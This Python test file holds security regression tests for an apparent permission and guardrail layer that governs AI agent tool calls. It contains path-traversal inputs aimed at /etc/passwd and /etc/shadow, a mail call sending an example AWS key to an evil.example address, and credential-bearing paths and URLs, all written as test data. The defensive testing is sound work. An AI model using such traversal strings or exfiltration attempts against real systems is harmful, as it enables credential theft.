"""Regressions for security findings: each test failed before its fix."""

import json
from typing import Any

import anyio
import pytest
from support import ALICE, Recorder, coding_registry, harness

from clearance import (
    CallContext,
    MemoryJournal,
    PermissionAsk,
    Tool,
    ToolRegistry,
)
from clearance.guardrails import ArgumentGuardrail, GuardrailOutcome, SecretScanner
from clearance.harness.approvals import Answer
from clearance.policy import AuthzRequest, LocalEvaluator, NoopEvaluator, Verdict

pytestmark = pytest.mark.anyio


def dump(journal: MemoryJournal) -> str:
    return json.dumps([e.to_json() for e in journal.events()])


def test_a_verdict_spelled_otherwise_cannot_exist() -> None:
    for effect in ("Deny", "Allow", "permit", ""):
        with pytest.raises(ValueError):
            Verdict(effect)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        Verdict("allow", annotations=None)  # type: ignore[arg-type]


async def test_an_evaluator_that_cannot_build_its_verdict_denies() -> None:
    class Cedarish:
        def evaluate(self, request: AuthzRequest) -> Verdict:
            return Verdict("Deny")  # type: ignore[arg-type]

    rec = Recorder()
    async with harness(coding_registry(rec), evaluator=Cedarish()) as h:
        s = await h.create_session(principal=ALICE)
        out = await s.call_tool("files__read_file", {"path": "/"})
    assert out.status == "denied" and rec.calls == []


async def test_long_withheld_values_never_survive_in_schema_messages() -> None:
    registry = ToolRegistry()
    schema = {"type": "object", "properties": {"token": {"type": "string", "maxLength": 8}}}
    registry.register(
        "api", [Tool("login", lambda a, c: "ok", input_schema=schema, sensitive=["/token"])]
    )
    secret = "sk-live-" + "A1b2C3d4" * 30
    journal = MemoryJournal()
    async with harness(registry, evaluator=NoopEvaluator(), journal=journal) as h:
        s = await h.create_session(principal=ALICE)
        out = await s.call_tool("api__login", {"token": secret})
    assert out.status == "invalid" and "value withheld" in out.text
    assert secret[:40] not in out.text and secret[:40] not in dump(journal)


async def test_a_rewrite_followed_by_a_block_records_the_rewrite() -> None:
    def external(arguments: dict[str, Any], ctx: Any) -> GuardrailOutcome:
        return GuardrailOutcome.block("external recipient")

    registry = ToolRegistry()
    schema = {
        "type": "object",
        "properties": {"body": {"type": "string"}, "to": {"type": "string"}},
    }
    registry.register("mail", [Tool("send", lambda a, c: "sent", input_schema=schema)])
    journal = MemoryJournal()
    async with harness(
        registry,
        evaluator=NoopEvaluator(),
        journal=journal,
        argument_guardrails=[
            SecretScanner.for_arguments(action="redact"),
            ArgumentGuardrail(external),
        ],
    ) as h:
        s = await h.create_session(principal=ALICE)
        out = await s.call_tool(
            "mail__send", {"body": "key AKIAIOSFODNN7EXAMPLE", "to": "x@evil.example"}
        )
    assert out.status == "blocked"
    assert "AKIAIOSFODNN7EXAMPLE" not in dump(journal)


async def test_withheld_values_never_become_grant_suggestions() -> None:
    registry = ToolRegistry()
    schema = {
        "type": "object",
        "properties": {"path": {"type": "string"}, "url": {"type": "string"}},
    }
    registry.register(
        "x", [Tool("fetch", lambda a, c: "ok", input_schema=schema, sensitive=["/path", "/url"])]
    )
    asks: list[PermissionAsk] = []

    def deny(ask: PermissionAsk) -> Answer:
        asks.append(ask)
        return "deny"

    journal = MemoryJournal()
    async with harness(registry, evaluator=LocalEvaluator(ask=["x.fetch"]), journal=journal) as h:
        s = await h.create_session(principal=ALICE, on_permission_ask=deny)
        await s.call_tool(
            "x__fetch", {"path": "/home/alice/.ssh/SECRETNAME", "url": "https://u:hunter2@h/x"}
        )
    # Both arguments decide (the tool declares no facts) and both are withheld: nobody
    # is asked to approve what they cannot see, so no suggestion is ever made of them.
    assert asks == []
    assert "SECRETNAME" not in dump(journal) and "hunter2" not in dump(journal)
    [decided] = [e.data for e in journal.events() if e.type == "call_decided"]
    assert decided["ask"]["how"] == "unshowable"


async def test_prefix_suggestions_only_for_path_arguments_and_stay_paths() -> None:
    rec = Recorder()
    asks: list[PermissionAsk] = []

    def widen(ask: PermissionAsk) -> Any:
        asks.append(ask)
        prefixes = [g for g in ask.suggestions if g.kind == "prefix"]
        from clearance import PermissionDecision

        return PermissionDecision("allow_session", scope=prefixes[0]) if prefixes else "deny"

    async with harness(
        coding_registry(rec), evaluator=LocalEvaluator(ask=["shell.run", "files.*"])
    ) as h:
        s = await h.create_session(principal=ALICE, on_permission_ask=widen)
        await s.call_tool("shell__run", {"command": "cat docs/readme.md"})
        assert [g.kind for g in asks[-1].suggestions] == ["exact", "tool"]
        assert (await s.call_tool("files__read_file", {"path": "docs/a.md"})).ok
        s.on_permission_ask = lambda ask: "deny"
        for sneaky in [
            "docs/ /etc/shadow",
            "docs/../etc/passwd",
            "docs/%2e%2e/x",
            "docs//x",
            "docs/./x",
        ]:
            out = await s.call_tool("files__read_file", {"path": sneaky})
            assert out.status == "denied", sneaky
        assert (await s.call_tool("files__read_file", {"path": "docs/b/c.md"})).ok


async def test_a_session_grant_answered_as_the_session_closes_is_not_kept() -> None:
    rec = Recorder()
    async with harness(coding_registry(rec), evaluator=LocalEvaluator(ask=["files.*"])) as h:
        s = await h.create_session(principal=ALICE, session_id="s-1")

        async def ui() -> None:
            async for ask in s.permission_asks():
                await ask.respond("allow_session")
                await s.aclose()
                return

        with anyio.fail_after(5):
            async with anyio.create_task_group() as tg:
                tg.start_soon(ui)
                await anyio.wait_all_tasks_blocked()
                out = await s.call_tool("files__read_file", {"path": "a"})
        assert out.status != "ok" and h.grants.list() == []
        again = await h.create_session(principal=ALICE, session_id="s-1")
        assert (await again.call_tool("files__read_file", {"path": "a"})).status == "denied"
    assert rec.calls == []


async def test_the_handler_runs_the_arguments_that_were_authorized() -> None:
    seen: list[dict[str, Any]] = []

    async def handler(arguments: dict[str, Any], ctx: CallContext) -> str:
        seen.append(arguments)
        return "ok"

    class Mutating:
        def evaluate(self, request: AuthzRequest) -> Verdict:
            request.arguments["path"] = "/etc/shadow"  # type: ignore[index]
            return Verdict("allow")

    registry = ToolRegistry()
    registry.register(
        "x",
        [
            Tool(
                "read",
                handler,
                input_schema={"type": "object", "properties": {"path": {"type": "string"}}},
            )
        ],
    )
    async with harness(registry, evaluator=NoopEvaluator(), shadow_evaluator=Mutating()) as h:
        s = await h.create_session(principal=ALICE)
        args = {"path": "src/a.txt"}
        assert (await s.call_tool("x__read", args)).ok
    assert seen == [{"path": "src/a.txt"}]


async def test_a_broken_stage_denies_instead_of_raising(monkeypatch: pytest.MonkeyPatch) -> None:
    from clearance.harness import shape

    def bug(*args: Any) -> Any:
        raise RuntimeError("a bug in a stage")

    monkeypatch.setattr(shape, "check_shape", bug)
    rec = Recorder()
    journal = MemoryJournal()
    async with harness(coding_registry(rec), evaluator=NoopEvaluator(), journal=journal) as h:
        s = await h.create_session(principal=ALICE)
        out = await s.call_tool("files__read_file", {"path": "a"}, call_id="c1")
    assert out.status == "denied" and out.correlation_id in out.text and rec.calls == []
    assert [e.type for e in journal.events(call_id="c1")] == ["call_decided"]


async def test_a_deeply_nested_result_fails_the_call_instead_of_raising() -> None:
    async def deep(arguments: dict[str, Any], ctx: CallContext) -> Any:
        value: Any = 1
        for _ in range(5000):
            value = [value]
        return value

    registry = ToolRegistry()
    registry.register("x", [Tool("deep", deep)])
    async with harness(registry, evaluator=NoopEvaluator()) as h:
        s = await h.create_session(principal=ALICE)
        out = await s.call_tool("x__deep", {})
    assert out.status == "failed"


def test_a_dotted_segment_does_not_open_parent_steps_in_local_rules() -> None:
    ev = LocalEvaluator(allow=["files.read_file(path=src/v1..2/**)"])
    from clearance.policy import SessionInfo

    def effect(path: str) -> str:
        registry = coding_registry(Recorder())
        request = AuthzRequest(
            ALICE, registry.get("files.read_file").info, {"path": path}, SessionInfo("s")
        )
        return ev.evaluate(request).effect

    assert effect("src/v1..2/a.txt") == "allow"
    assert effect("src/v1..2/../../../etc/passwd") == "deny"
